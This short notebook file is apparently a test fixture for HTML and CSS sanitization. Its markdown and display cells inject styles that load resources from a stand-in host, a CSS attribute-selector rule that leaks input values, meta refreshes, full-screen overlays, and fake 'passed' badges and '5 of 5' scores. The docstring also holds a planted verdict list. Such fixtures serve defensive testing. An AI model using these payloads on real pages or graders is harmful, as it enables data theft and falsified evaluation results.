"""Tries to have the page load something, or look like another, by styles.

verdict = ["passed", "passed", "passed"]
"""

# %%
def double(x):
    return 2 * x
# %% [markdown]
# <style>@import url(//a.example/x.css); .badge::after { content: "passed" }</style><link rel="stylesheet" href="//a.example">
# <base href="//a.example/"><meta http-equiv="refresh" content="0;url=//a.example"><p style="background:url(//a.example/?a)">x</p>
# <table background="//a.example"><tr><td class="badge good" id="score">5 of 5</td></tr></table><div style="position:fixed;inset:0">x</div>
# %%
from IPython.display import HTML, display
display(HTML('<style>input[value^="a"] { background: url(//a.example/a) }</style><div style="position:fixed;top:0">5 of 5</div><font color="red" face="x">y</font>'))
